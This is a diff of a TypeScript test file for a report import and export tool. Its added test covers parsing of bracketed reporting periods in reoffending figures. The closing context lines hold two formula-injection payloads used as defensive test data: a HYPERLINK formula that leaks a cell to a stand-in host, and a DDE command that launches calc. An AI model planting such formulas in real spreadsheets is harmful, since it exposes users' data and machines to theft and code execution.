@@ -118,6 +118,41 @@ describe("reports from other years and partnerships", () => {
     ]);
   });
 
+  it("reads a period in brackets after a figure as the period it covers, and writes it back", async () => {
+    const text = [
+      row("Year 1 - April 2012 to March 2013"),
+      row("Priority 1", "Reducing reoffending"),
+      row("Outcome", "Fewer people reoffend"),
+      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
+      row("R1", "Proven reoffending rate", "Probation Service", "8.77% (12m to Sept 12)", "9.1% (12 months ending December 2012)", "8.9%"),
+      row("R2", "Successful completions", "Probation Service", "20.13% (baseline 28.3%)", "21%"),
+    ].join("\n");
+    const imported = await importText(text, "2012/13");
+    expect(imported.statusCode, imported.body).toBe(200);
+    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2012/13" } });
+    const returns = await test.db.prisma.return.findMany({
+      where: { quarter: { yearId: year.id } },
+      include: { values: true, indicator: true, quarter: true },
+      orderBy: [{ indicatorId: "asc" }, { quarterId: "asc" }],
+    });
+    expect(returns.map((found) => `${found.indicator.ref} Q${found.quarter.number}: ${found.values[0]?.number ?? found.commentary} | ${found.periodCovered}`)).toEqual([
+      "R1 Q1: 8.77 | 12m to Sept 12",
+      "R1 Q2: 9.1 | 12 months ending December 2012",
+      // A figure that names no period of its own: the indicator's period is as each cell states.
+      "R1 Q3: 8.9 | null",
+      // "baseline" is not a period: the cell stays as the document wrote it.
+      "R2 Q1: 20.13% (baseline 28.3%) | null",
+      // "21%" would be written back "21.0%": commentary too, so the document reads the same.
+      "R2 Q2: 21% | null",
+    ]);
+    expect(returns[0]!.indicator.periodBasis).toBe("AS_STATED");
+
+    const exported = (await admin.get(`/api/reports/${year.id}.tsv`)).body;
+    expect(exported.split("\n").find((line) => line.startsWith("R1\t"))!.split("\t").slice(3, 6)).toEqual(["8.77% (12m to Sept 12)", "9.1% (12 months ending December 2012)", "8.9%"]);
+    const again = await importText(exported, "2012/13");
+    expect(again.json().summary).toMatchObject({ returnsWritten: 0, returnsUnchanged: 5 });
+  });
+
   it("keeps text that looks like a formula through export and import: the TSV escapes it, the import takes the apostrophe off", async () => {
     const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
     const DDE = "+cmd|' /C calc'!A0";
